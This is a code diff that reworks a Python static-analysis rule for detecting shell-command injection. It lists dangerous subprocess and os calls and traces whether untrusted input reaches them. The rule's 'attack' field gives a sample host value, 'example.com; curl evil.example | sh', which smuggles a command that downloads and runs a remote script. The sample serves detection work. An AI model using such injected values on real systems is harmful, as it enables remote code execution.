@@ -6,74 +6,93 @@ import re
 from typing import TYPE_CHECKING
 
 from vetline_analyzers.core.finding import Confidence, Severity
-from vetline_analyzers.syntax.rule import Hit, PatternRule, Report
-from vetline_analyzers.syntax.scope import callee
+from vetline_analyzers.flow.rule import PEOPLE, Arrival, FlowRule, Opinion, Sink
+from vetline_analyzers.flow.value import text_of
 
 if TYPE_CHECKING:
-    from tree_sitter import Node
+    from vetline_analyzers.flow.rule import Called
+    from vetline_analyzers.flow.value import Value
 
-_SHELLS = re.compile(r"(?:/\w+)*/?(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
+_SHELL = re.compile(r"(?:/\w+)*/?(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
+_OPTION = re.compile(r"-l?c|/c")
 _ALWAYS = (
-    *("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"),
-    *("commands.getoutput", "asyncio.create_subprocess_shell", "popen2.popen2"),
+    *(
+        "os.system",
+        "os.popen",
+        "os.popen2",
+        "os.popen3",
+        "subprocess.getoutput",
+        "subprocess.getstatusoutput",
+    ),
+    *(
+        "commands.getoutput",
+        "commands.getstatusoutput",
+        "asyncio.create_subprocess_shell",
+        "popen2.popen2",
+    ),
+    *(
+        "system",
+        "popen",
+        "getoutput",
+        "asyncio.subprocess.create_subprocess_shell",
+        "pexpect.run",
+        "platform.popen",
+    ),
 )
-_ON_REQUEST = tuple(
-    f"subprocess.{n}" for n in ("run", "call", "check_call", "check_output", "Popen")
+_ON_REQUEST = (
+    *(f"subprocess.{n}" for n in ("run", "call", "check_call", "check_output", "Popen")),
+    *("Popen", "check_output", "check_call"),
 )
 
 
-def _check(hit: Hit) -> Report | None:
-    command = hit.either(0, "args") or hit.keyword("cmd")
-    if command is None:
-        return None
-    if not hit.name:  # a method: paramiko's exec_command
-        return _judged(hit, command) if hit.built(command) else None
-    if hit.name in _ON_REQUEST:
-        shell = hit.keyword("shell")
-        if shell is None or hit.text(shell) in {"False", "0", "None"}:
-            inner = _given_to_shell(hit, command)
-            return _judged(hit, inner) if inner is not None and hit.built(inner) else None
-    return _judged(hit, command)
+def _has_shell(called: Called) -> bool:
+    shell = called.keywords.get("shell")
+    return shell is not None and shell.truth is not False
 
 
-def _judged(hit: Hit, command: Node) -> Report | None:
-    if hit.constant(command):
+def _starts_shell(called: Called) -> bool:
+    """Whether a list says `sh -c text`."""
+    command = called.argument(0) or called.argument("args")
+    items = list((command.items or {}).values()) if command is not None and command.is_list else []
+    return len(items) > 2 and _is_one(items[0], _SHELL) and _is_one(items[1], _OPTION)  # noqa: PLR2004 - shell, option, text
+
+
+def _is_one(value: Value, pattern: re.Pattern[str]) -> bool:
+    return bool(value.constants) and all(pattern.fullmatch(str(c)) for c in value.constants or ())
+
+
+def _is_shell(called: Called) -> bool:
+    return any(_SHELL.fullmatch(value.text or "") for value in called.arguments)
+
+
+def _judge(arrival: Arrival) -> bool | Opinion | None:
+    value = arrival.value
+    if value.is_list and value.items:
+        value = text_of(value.items.values())
+    if (
+        arrival.traced
+        or arrival.is_built
+        or Arrival(value, arrival.sink, None, (), (), arrival.alive).is_built
+    ):
+        return True
+    if arrival.is_composed:
+        return Opinion(RULE.possible, severity=Severity.LOW, confidence=Confidence.LOW)  # a number
+    if arrival.call is not None and any(name in _ALWAYS for name in arrival.call.names):
+        return _whole(arrival)
+    return _whole(arrival) if arrival.sink.when is _has_shell else None
+
+
+def _whole(arrival: Arrival) -> Opinion | None:
+    """A command that comes from elsewhere as a whole."""
+    if not arrival.is_open(arrival.value):
         return None
-    built = hit.built(command)
-    if built is not None:
-        holes = [p for p in built if p is not None and not isinstance(p, str)]
-        if all(_quoted(hit, hole) for hole in holes):
-            return None
-    if built is not None or hit.from_outside(command):
-        return Report(
-            "A shell command is built from a string: a value in it becomes a command. "
-            "Pass a list of arguments without a shell.",
-            command,
-        )
-    return Report(
+    return Opinion(
         "A shell runs a command that is not written here: pass a list of arguments without a shell.",
-        command,
         confidence=Confidence.MEDIUM,
     )
 
 
-def _quoted(hit: Hit, node: Node) -> bool:
-    function = callee(node) if node.type == "call" else None
-    return hit.resolve(function) in {"shlex.quote", "pipes.quote", "shlex.join"}
-
-
-def _given_to_shell(hit: Hit, command: Node) -> Node | None:
-    """The text after `-c` in `["sh", "-c", text]`."""
-    if command.type not in {"list", "tuple"}:
-        return None
-    items = [node for node in command.named_children if node.type != "comment"]
-    for shell, flag, text in zip(items, items[1:], items[2:], strict=False):
-        if hit.string(flag) in {"-c", "/c"} and _SHELLS.fullmatch(hit.string(shell) or ""):
-            return text
-    return None
-
-
-RULE = PatternRule(
+RULE = FlowRule(
     id="python/command-from-string",
     title="Shell command built from a string",
     severity=Severity.HIGH,
@@ -152,7 +171,22 @@ def ping(h):
     ),
     same_as=tuple(f"bandit/B{n}" for n in (601, 602, 604, 605, 609)),
     url="https://docs.python.org/3/library/subprocess.html#security-considerations",
-    names=(*_ALWAYS, *_ON_REQUEST),
-    methods=("exec_command",),
-    check=_check,
+    kind="command",
+    sinks=(
+        Sink(names=_ALWAYS, arguments=(0, "cmd", "command")),
+        Sink(names=_ON_REQUEST, arguments=(0, "args"), when=_has_shell),
+        Sink(names=_ON_REQUEST, arguments=(0, "args"), when=_starts_shell),
+        Sink(methods=("exec_command", "getoutput")),
+        Sink(
+            names=tuple(f"os.{n}" for n in ("execl", "execlp", "spawnl", "spawnlp")),
+            arguments=("*",),
+            when=_is_shell,
+        ),
+    ),
+    traced="{label} reaches a shell here: what it holds can be a command. Pass a list of arguments without a shell.",
+    possible="A shell command is built from a string: a value in it becomes a command. "
+    "Pass a list of arguments without a shell.",
+    sources=PEOPLE,
+    judge=_judge,
+    attack="The host `example.com; curl evil.example | sh` runs a program of the attacker.",
 )
